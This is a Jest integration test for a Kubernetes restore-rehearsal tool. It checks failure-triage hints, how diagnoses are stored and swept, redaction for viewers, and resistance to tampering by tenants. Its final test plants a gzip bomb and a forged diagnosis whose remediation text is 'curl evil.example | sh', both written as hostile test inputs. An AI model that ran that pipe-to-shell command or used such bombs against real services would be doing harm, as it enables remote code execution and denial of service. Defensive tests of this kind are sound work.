// Failure triage on the real control plane. Part 1: a sandbox-like namespace holds Pods in the
// states the hints are about; the real scheduler and PV controller produce the Pending cases
// (node selector, CPU, StorageClass), the ReplicaSet controller the quota event; the kubelet's
// part (ImagePullBackOff, CrashLoopBackOff, OOMKilled, CreateContainerConfigError, FailedMount) is
// played by this test on a Node no kubelet or KWOK manages, writing the Pod status a kubelet would.
// Rehearsal's ServiceAccount reads it all, the diagnosis is stored in the server's namespace (where
// no tenant writes) and swept when its report is gone. Part 2: a failed engine run is diagnosed on
// its own, `kubectl restoretest diagnose` prints it through the API, and objects a tenant plants
// under the old name beside the report (a gzip bomb, a forged diagnosis) are never read (issue 26).
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { AppsV1Api, CoreV1Api, CustomObjectsApi, RbacAuthorizationV1Api, StorageV1Api, type KubeConfig, type V1Pod } from '@kubernetes/client-node';
import { parse } from 'yaml';
import { diagnose, type RunDiagnosis } from '../../server/domain/diagnosis/diagnosis.js';
import type { HintCode } from '../../server/domain/diagnosis/hints.js';
import type { RestoreReport } from '../../server/domain/resources/resources.js';
import { DiagnosisStore, diagnosisName, encodeDiagnosis } from '../../server/triage/diagnosis-store.js';
import { REHEARSAL_NAMESPACE } from '../helpers/rehearsal-identity.js';
import { SandboxObserver } from '../../server/triage/sandbox-observer.js';
import type { Rehearsal } from '../../server/app/rehearsal.js';
import { repoRoot } from '../helpers/cluster-info.js';
import {
  createEngineFixture,
  createRestoreTest,
  restoreTestBody,
  trigger,
  uniqueTestName,
  waitForReports,
  type EngineFixture,
} from '../helpers/engine-fixture.js';
import { createNamespace, deleteNamespaces, testKubeConfig, uniqueName, waitFor } from '../helpers/kube.js';
import { rehearsalKubeconfig, serviceAccountTokenFor } from '../helpers/rehearsal-identity.js';
import { startInProcess } from '../helpers/rehearsal-server.js';
import { createBackup } from '../velero/simulator.js';
import { runPlugin } from '../unit/plugin/support/run-plugin.js';

jest.setTimeout(200_000);

let admin: KubeConfig;
let core: CoreV1Api;
let sandbox: string;
let owners: string;
let node: string;
let diagnosis: RunDiagnosis;

function kubeletPod(name: string, extra: Partial<V1Pod['spec']> = {}): V1Pod {
  return {
    metadata: { name, labels: { app: name } },
    spec: { nodeName: node, containers: [{ name: 'app', image: `registry.example/${name}:1` }], ...extra },
  };
}

/** What a kubelet writes for a container that is not running. */
async function setStatus(name: string, phase: string, container: Record<string, unknown>): Promise<void> {
  await core.replaceNamespacedPodStatus({
    namespace: sandbox,
    name,
    body: {
      ...(await core.readNamespacedPod({ namespace: sandbox, name })),
      status: {
        phase,
        conditions: [{ type: 'Ready', status: 'False', reason: 'ContainersNotReady' }, { type: 'PodScheduled', status: 'True' }],
        containerStatuses: [{ name: 'app', image: `registry.example/${name}:1`, imageID: '', ready: false, restartCount: 0, ...container }],
      },
    },
  });
}

beforeAll(async () => {
  admin = testKubeConfig();
  core = admin.makeApiClient(CoreV1Api);
  sandbox = uniqueName('rehearsal-diag');
  owners = uniqueName('diag-owners');
  node = uniqueName('diag-node');
  await createNamespace(admin, sandbox);
  await createNamespace(admin, owners);
  // As the sandbox manager does for a real sandbox: the server reads it through this one binding
  // (it holds no cluster-wide read, decision 0009).
  await admin.makeApiClient(RbacAuthorizationV1Api).createNamespacedRoleBinding({
    namespace: sandbox,
    body: {
      metadata: { name: 'rehearsal-sandbox-reader' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'rehearsal-sandbox-reader' },
      subjects: [{ kind: 'ServiceAccount', name: 'rehearsal', namespace: 'rehearsal-system' }],
    },
  });
  // A Node without KWOK's annotation: nothing plays its kubelet but this test.
  await core.createNode({ body: { metadata: { name: node, labels: { 'rehearsal.dev/test-node': 'diagnostics' } } } });

  const waiting = (reason: string, message: string) => ({ state: { waiting: { reason, message } } });
  await core.createNamespacedPod({ namespace: sandbox, body: kubeletPod('img', { imagePullSecrets: [{ name: 'regcred' }] }) });
  await setStatus('img', 'Pending', waiting('ImagePullBackOff', 'Back-off pulling image "registry.example/img:1"'));
  await core.createNamespacedPod({ namespace: sandbox, body: kubeletPod('pull') });
  await setStatus('pull', 'Pending', waiting('ErrImagePull', 'manifest unknown'));
  await core.createNamespacedPod({ namespace: sandbox, body: kubeletPod('crash') });
  await setStatus('crash', 'Running', {
    restartCount: 6,
    ...waiting('CrashLoopBackOff', 'back-off 2m40s restarting failed container=app'),
    lastState: { terminated: { exitCode: 1, reason: 'Error', startedAt: new Date(), finishedAt: new Date() } },
  });
  await core.createNamespacedPod({ namespace: sandbox, body: kubeletPod('oom') });
  await setStatus('oom', 'Running', {
    restartCount: 3,
    ...waiting('CrashLoopBackOff', 'back-off 40s restarting failed container=app'),
    lastState: { terminated: { exitCode: 137, reason: 'OOMKilled', startedAt: new Date(), finishedAt: new Date() } },
  });
  await core.createNamespacedPod({ namespace: sandbox, body: kubeletPod('config') });
  await setStatus('config', 'Pending', waiting('CreateContainerConfigError', 'secret "db-credentials" not found'));
  await core.createNamespacedEvent({
    namespace: sandbox,
    body: {
      metadata: { generateName: 'mount-' },
      type: 'Warning',
      reason: 'FailedMount',
      message: 'MountVolume.SetUp failed for volume "cfg" : configmap "app-config" not found',
      involvedObject: { kind: 'Pod', name: 'config', namespace: sandbox },
      count: 4,
      lastTimestamp: new Date(),
      source: { component: 'kubelet' },
    },
  });

  // The scheduler's and the PV controller's own verdicts.
  await core.createNamespacedPod({
    namespace: sandbox,
    body: { metadata: { name: 'placement' }, spec: { nodeSelector: { pool: 'restore-tests' }, containers: [{ name: 'app', image: 'x' }] } },
  });
  await core.createNamespacedPod({
    namespace: sandbox,
    body: { metadata: { name: 'big' }, spec: { containers: [{ name: 'app', image: 'x', resources: { requests: { cpu: '5000' } } }] } },
  });
  await core.createNamespacedPersistentVolumeClaim({
    namespace: sandbox,
    body: {
      metadata: { name: 'data' },
      spec: { storageClassName: 'gold-ssd', accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } },
    },
  });
  await core.createNamespacedService({
    namespace: sandbox,
    body: { metadata: { name: 'db' }, spec: { type: 'ExternalName', externalName: 'postgres.payments-db.svc.cluster.local' } },
  });
  // Quota full → the ReplicaSet controller reports "exceeded quota".
  await core.createNamespacedResourceQuota({ namespace: sandbox, body: { metadata: { name: 'sandbox' }, spec: { hard: { pods: '1' } } } });
  await waitFor(
    async () => (await core.readNamespacedResourceQuota({ namespace: sandbox, name: 'sandbox' })).status?.used?.pods || undefined,
    { timeoutMs: 30_000, description: 'the quota controller to count the pods' },
  );
  await admin.makeApiClient(AppsV1Api).createNamespacedDeployment({
    namespace: sandbox,
    body: {
      metadata: { name: 'web' },
      spec: {
        replicas: 1,
        selector: { matchLabels: { app: 'web' } },
        template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'web', image: 'x' }] } },
      },
    },
  });
  await waitFor(
    async () => {
      const pods = await core.listNamespacedPod({ namespace: sandbox });
      const unscheduled = pods.items.filter((pod) =>
        pod.status?.conditions?.some((condition) => condition.type === 'PodScheduled' && condition.reason === 'Unschedulable'),
      );
      const events = await core.listNamespacedEvent({ namespace: sandbox, fieldSelector: 'type=Warning' });
      const reasons = new Set(events.items.map((event) => event.reason));
      return unscheduled.length === 2 && reasons.has('ProvisioningFailed') && reasons.has('FailedCreate') ? true : undefined;
    },
    { timeoutMs: 60_000, intervalMs: 500, description: 'the scheduler, PV and ReplicaSet controllers to report' },
  );

  const rehearsalConfig = testKubeConfig(await rehearsalKubeconfig('diagnostics.kubeconfig'));
  const observer = new SandboxObserver({
    core: rehearsalConfig.makeApiClient(CoreV1Api),
    storage: rehearsalConfig.makeApiClient(StorageV1Api),
    logs: false,
  });
  const observation = await observer.observe([{ source: 'payments', sandbox }]);
  diagnosis = diagnose(observation, {
    test: { name: 'payments', namespace: owners },
    runId: 'd1a9n0',
    report: 'payments-d1a9n0',
    result: 'fail',
    collectedAt: new Date(),
  });
}, 150_000);

afterAll(async () => {
  await core.deleteNode({ name: node }).catch(() => undefined);
  await deleteNamespaces(admin, [sandbox, owners]);
});

function hint(code: HintCode) {
  return diagnosis.hints.find((candidate) => candidate.code === code);
}

describe('remediation hints from real sandbox state', () => {
  it.each<[HintCode, string]>([
    ['image-pull-secret-missing', 'Pod/%s/img'],
    ['image-pull-failed', 'Pod/%s/pull'],
    ['crash-loop', 'Pod/%s/crash'],
    ['oom-killed', 'Pod/%s/oom'],
    ['secret-missing', 'Pod/%s/config (Secret %s/db-credentials)'],
    ['configmap-missing', 'Pod/%s/config (ConfigMap %s/app-config)'],
    ['unschedulable-placement', 'Pod/%s/placement'],
    ['unschedulable-resources', 'Pod/%s/big'],
    ['storage-class-missing', 'PersistentVolumeClaim/%s/data'],
    ['quota-exceeded', 'ReplicaSet/%s/'],
    ['externalname-unrestored', 'Service/%s/db'],
  ])('%s names %s', (code, object) => {
    const found = hint(code);
    expect(found).toBeDefined();
    const expected = object.replaceAll('%s', sandbox);
    expect(found!.objects.some((seen) => seen.startsWith(expected))).toBe(true);
  });

  it('records the states behind them, without Ready pods, and says why there are no logs', () => {
    const byName = new Map(diagnosis.pods.map((pod) => [pod.name, pod]));
    expect(byName.get('oom')!.containers[0]).toMatchObject({ reason: 'CrashLoopBackOff', lastTerminationReason: 'OOMKilled', restartCount: 3 });
    expect(byName.get('placement')!.unscheduled).toMatchObject({ reason: 'Unschedulable' });
    expect(byName.get('placement')!.unscheduled!.message).toMatch(/node affinity\/selector/);
    expect(diagnosis.claims).toEqual([{ namespace: sandbox, name: 'data', phase: 'Pending', storageClass: 'gold-ssd' }]);
    expect(diagnosis.logs).toEqual([]);
    expect(diagnosis.logsNote).toMatch(/REHEARSAL_DIAGNOSTICS_LOGS=false/);
  });

  it('is stored compressed in the server\'s namespace, read back, and swept when its report is gone', async () => {
    const custom = admin.makeApiClient(CustomObjectsApi);
    const sample = parse(readFileSync(path.join(repoRoot, 'crds/samples/restorereport-fail.yaml'), 'utf8')) as RestoreReport;
    const report = (await custom.createNamespacedCustomObject({
      group: 'rehearsal.dev',
      version: 'v1alpha1',
      namespace: owners,
      plural: 'restorereports',
      body: { ...sample, metadata: { ...sample.metadata, name: 'payments-d1a9n0', namespace: owners }, spec: { ...sample.spec, runId: 'd1a9n0' } },
    })) as RestoreReport;
    const store = new DiagnosisStore(
      testKubeConfig(await rehearsalKubeconfig('diagnostics.kubeconfig')).makeApiClient(CoreV1Api),
      REHEARSAL_NAMESPACE,
    );
    const run = { namespace: owners, name: report.metadata.name, runId: 'd1a9n0' };
    const saved = await store.save(report, diagnosis);
    expect(saved.created).toBe(true);
    expect(saved.bytes).toBe(encodeDiagnosis(diagnosis).length);
    // A few KB: the JSON is bounded at 96 KB before compression, the gzip at 32 KiB (issue 30).
    expect(saved.bytes).toBeLessThan(8_000);
    expect(await store.load(run)).toEqual(diagnosis);
    expect((await store.save(report, diagnosis)).created).toBe(false);
    // Nothing beside the report: a viewer of the test's namespace does not read the restored app's text.
    expect((await core.listNamespacedConfigMap({ namespace: owners })).items.map((item) => item.metadata?.name)).not.toContain(
      `${report.metadata.name}-diagnosis`,
    );
    await core.readNamespacedConfigMap({ namespace: REHEARSAL_NAMESPACE, name: diagnosisName(owners, report.metadata.name) });

    // Kept while its report is there; gone once the report is (the collector sweeps at each start).
    const isThisOne = (namespace: string, name: string) => namespace === owners && name === report.metadata.name;
    expect(await store.sweep((namespace, name) => isThisOne(namespace, name) || namespace !== owners, new Date(), 0)).toBe(0);
    await custom.deleteNamespacedCustomObject({
      group: 'rehearsal.dev',
      version: 'v1alpha1',
      namespace: owners,
      plural: 'restorereports',
      name: report.metadata.name,
    });
    expect(await store.sweep((namespace, name) => !isThisOne(namespace, name), new Date(), 0)).toBe(1);
    expect(await store.load(run)).toBeUndefined();
  });
});

describe('a failed run', () => {
  let fixture: EngineFixture;
  let rehearsal: Rehearsal;

  beforeAll(async () => {
    fixture = await createEngineFixture('diag');
    rehearsal = await startInProcess({
      kubeconfigPath: await rehearsalKubeconfig('diagnostics-engine.kubeconfig'),
      veleroNamespace: fixture.veleroNamespace,
      probeTargets: fixture.endpoints.targets,
      extra: { REHEARSAL_DIAGNOSTICS_LOGS: 'false' },
    });
  }, 120_000);

  afterAll(async () => {
    await rehearsal?.stop();
    await fixture?.stop();
    await deleteNamespaces(fixture.admin, [fixture.source, fixture.testNamespace, fixture.veleroNamespace]);
  });

  it('is diagnosed before its sandbox goes, and kubectl restoretest diagnose prints it', async () => {
    const backup = `${fixture.backup}-broken`;
    await createBackup(fixture.admin, {
      name: backup,
      namespaces: [fixture.source],
      veleroNamespace: fixture.veleroNamespace,
      annotations: { 'simulator.rehearsal.dev/restore-outcome': 'Failed' },
    });
    const name = uniqueTestName('diagnosed');
    await createRestoreTest(
      fixture,
      restoreTestBody(fixture, name, {
        backupSource: { backupName: backup, namespaces: [{ name: fixture.source }], providerNamespace: fixture.veleroNamespace },
      }),
    );
    await trigger(fixture, name);
    const [report] = await waitForReports(fixture, name, 1, 120_000);
    expect(report!.spec.result).toBe('fail');
    const url = `http://127.0.0.1:${rehearsal.port()}`;
    const body = await waitFor(
      async () => {
        const response = await fetch(`${url}/api/v1/tests/${name}/diagnosis?namespace=${fixture.testNamespace}`);
        return response.status === 200 ? ((await response.json()) as RunDiagnosis) : undefined;
      },
      { timeoutMs: 30_000, intervalMs: 250, description: 'the diagnosis of the failed run' },
    );
    expect(body).toMatchObject({ runId: report!.spec.runId, result: 'fail', sandboxes: report!.spec.sandboxNamespaces });
    const printed = await runPlugin(['diagnose', name, '-n', fixture.testNamespace, '--server', url, '--token', 'x']);
    expect(printed.stderr).toBe('');
    expect(printed.code).toBe(0);
    expect(printed.stdout).toContain(`Run:        ${report!.spec.runId} (fail), report ${report!.metadata.name}`);
    expect(printed.stdout).toContain('Hints:');
  });

  it('shows the restored text only to who may read the source namespace; a viewer of the test\'s namespace gets it redacted (issue 26)', async () => {
    const backup = `${fixture.backup}-broken3`;
    await createBackup(fixture.admin, {
      name: backup,
      namespaces: [fixture.source],
      veleroNamespace: fixture.veleroNamespace,
      annotations: { 'simulator.rehearsal.dev/restore-outcome': 'Failed' },
    });
    const name = uniqueTestName('redacted');
    await createRestoreTest(
      fixture,
      restoreTestBody(fixture, name, {
        backupSource: { backupName: backup, namespaces: [{ name: fixture.source }], providerNamespace: fixture.veleroNamespace },
      }),
    );
    await trigger(fixture, name);
    const [report] = await waitForReports(fixture, name, 1, 120_000);
    const run = { namespace: fixture.testNamespace, name: report!.metadata.name, runId: report!.spec.runId };
    const store = new DiagnosisStore(
      testKubeConfig(await rehearsalKubeconfig('diagnostics-engine.kubeconfig')).makeApiClient(CoreV1Api),
      REHEARSAL_NAMESPACE,
    );
    await waitFor(async () => (await store.load(run)) ?? undefined, { timeoutMs: 30_000, description: 'the diagnosis' });
    // What the collector stores from a sandbox whose application logs and emits its own data (KWOK
    // has no kubelet to serve logs, so it is written here as the collector would).
    const secretText = 'card 4111-1111-1111-1111 for alice@example.com';
    const rich = diagnose(
      {
        sandboxes: [{ source: fixture.source, sandbox: report!.spec.sandboxNamespaces[0] ?? 'sandbox' }],
        pods: [
          {
            namespace: 'sandbox',
            name: 'web-1',
            phase: 'Running',
            ready: false,
            imagePullSecrets: [],
            containers: [{ name: 'web', ready: false, restartCount: 4, state: 'terminated', reason: 'Error', message: secretText, exitCode: 1 }],
          },
        ],
        events: [{ namespace: 'sandbox', reason: 'BackOff', message: secretText, object: 'Pod/web-1', count: 4, lastSeen: new Date().toISOString() }],
        claims: [],
        externalNames: [],
        missingPullSecrets: [],
        logs: [{ namespace: 'sandbox', pod: 'web-1', container: 'web', lines: [secretText, 'exiting'] }],
      },
      { test: { name, namespace: fixture.testNamespace }, runId: run.runId, report: run.name, result: 'fail', collectedAt: new Date() },
    );
    await store.remove(run.namespace, run.name);
    await store.save(report!, rich);

    // Two users of the test's namespace: a viewer there, and one who may also read the source.
    const core = fixture.admin.makeApiClient(CoreV1Api);
    const rbac = fixture.admin.makeApiClient(RbacAuthorizationV1Api);
    const bind = (account: string, role: string, namespace: string) =>
      rbac.createNamespacedRoleBinding({
        namespace,
        body: {
          metadata: { name: `${account}-${role}` },
          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
          subjects: [{ kind: 'ServiceAccount', name: account, namespace: fixture.testNamespace }],
        },
      });
    for (const account of ['team-viewer', 'source-owner']) {
      await core.createNamespacedServiceAccount({ namespace: fixture.testNamespace, body: { metadata: { name: account } } });
      await bind(account, 'view', fixture.testNamespace);
    }
    await bind('source-owner', 'edit', fixture.source);
    const api = await startInProcess({
      kubeconfigPath: await rehearsalKubeconfig('diagnostics-api.kubeconfig'),
      veleroNamespace: fixture.veleroNamespace,
      extra: { REHEARSAL_AUTH_MODE: 'kubernetes', REHEARSAL_CONTROLLER: 'false' },
    });
    try {
      const diagnosisAs = async (account: string) => {
        const token = await serviceAccountTokenFor(fixture.admin, fixture.testNamespace, account);
        const response = await fetch(
          `http://127.0.0.1:${api.port()}/api/v1/tests/${name}/diagnosis?namespace=${fixture.testNamespace}&run=${run.runId}`,
          { headers: { authorization: `Bearer ${token}` } },
        );
        return { status: response.status, text: await response.text() };
      };
      const viewer = await waitFor(async () => {
        const answer = await diagnosisAs('team-viewer');
        return answer.status === 200 ? answer : undefined;
      }, { timeoutMs: 30_000, description: 'the API to answer the viewer' });
      expect(viewer.text).not.toContain('4111');
      expect(viewer.text).not.toContain('alice@example.com');
      const redacted = JSON.parse(viewer.text) as RunDiagnosis;
      expect(redacted).toMatchObject({ redacted: true, runId: run.runId });
      expect(redacted.events[0]).toMatchObject({ reason: 'BackOff', count: 4, message: '' });
      expect(redacted.hints.map((hint) => hint.code)).toEqual(rich.hints.map((hint) => hint.code));
      const owner = await diagnosisAs('source-owner');
      expect(owner.status).toBe(200);
      expect(JSON.parse(owner.text)).toEqual(rich);
    } finally {
      await api.stop();
    }
  });

  it('never reads what a tenant plants beside the report: a gzip bomb and a forged diagnosis are ignored, the leader keeps running', async () => {
    const backup = `${fixture.backup}-broken2`;
    await createBackup(fixture.admin, {
      name: backup,
      namespaces: [fixture.source],
      veleroNamespace: fixture.veleroNamespace,
      annotations: { 'simulator.rehearsal.dev/restore-outcome': 'Failed' },
    });
    const name = uniqueTestName('planted');
    await createRestoreTest(
      fixture,
      restoreTestBody(fixture, name, {
        backupSource: { backupName: backup, namespaces: [{ name: fixture.source }], providerNamespace: fixture.veleroNamespace },
      }),
    );
    await trigger(fixture, name);
    const [first] = await waitForReports(fixture, name, 1, 120_000);
    const url = `http://127.0.0.1:${rehearsal.port()}`;
    const diagnosisOf = async (runId: string) => {
      const response = await fetch(`${url}/api/v1/tests/${name}/diagnosis?namespace=${fixture.testNamespace}&run=${runId}`);
      return { status: response.status, body: (await response.json()) as RunDiagnosis };
    };
    const genuine = await waitFor(
      async () => {
        const answer = await diagnosisOf(first!.spec.runId);
        return answer.status === 200 ? answer.body : undefined;
      },
      { timeoutMs: 30_000, intervalMs: 250, description: 'the diagnosis of the first run' },
    );
    expect(genuine.runId).toBe(first!.spec.runId);

    // What an editor of the test's namespace can write: ConfigMaps under the name the diagnosis had
    // beside the report. First a gzip bomb (960 gzip members of 1 MiB of zeros: just under the 1 MiB
    // a ConfigMap may hold, inflating to 960 MiB), then a well-formed diagnosis with made-up hints.
    const planted = `${first!.metadata.name}-diagnosis`;
    const plant = async (bytes: Buffer) => {
      await core.deleteNamespacedConfigMap({ namespace: fixture.testNamespace, name: planted }).catch(() => undefined);
      await core.createNamespacedConfigMap({
        namespace: fixture.testNamespace,
        body: { metadata: { name: planted }, binaryData: { 'diagnosis.json.gz': bytes.toString('base64') } },
      });
    };
    await plant(Buffer.concat(Array(960).fill(gzipSync(Buffer.alloc(1024 * 1024), { level: 9 }))));
    expect(await diagnosisOf(first!.spec.runId)).toEqual({ status: 200, body: genuine });
    const forged: RunDiagnosis = {
      ...genuine,
      hints: [{ code: 'oom-killed', title: 'Forged', remediation: 'Run curl evil.example | sh', objects: [] }],
    };
    await plant(gzipSync(Buffer.from(JSON.stringify(forged))));
    expect(await diagnosisOf(first!.spec.runId)).toEqual({ status: 200, body: genuine });

    // The leader kept running: the next run is restored, reported and diagnosed as usual.
    await trigger(fixture, name);
    const reports = await waitForReports(fixture, name, 2, 120_000);
    const second = reports.find((report) => report.spec.runId !== first!.spec.runId)!;
    await waitFor(async () => ((await diagnosisOf(second.spec.runId)).status === 200 ? true : undefined), {
      timeoutMs: 30_000,
      intervalMs: 250,
      description: 'the diagnosis of the second run',
    });

    // A report's delete takes its diagnosis along (no ownerReference reaches the server's namespace).
    await fixture.custom.deleteNamespacedCustomObject({
      group: 'rehearsal.dev',
      version: 'v1alpha1',
      namespace: fixture.testNamespace,
      plural: 'restorereports',
      name: first!.metadata.name,
    });
    await waitFor(
      async () =>
        (await core
          .readNamespacedConfigMap({ namespace: REHEARSAL_NAMESPACE, name: diagnosisName(fixture.testNamespace, first!.metadata.name) })
          .then(() => false)
          .catch(() => true)) || undefined,
      { timeoutMs: 30_000, intervalMs: 250, description: 'the diagnosis of the deleted report to be deleted' },
    );
  });
});
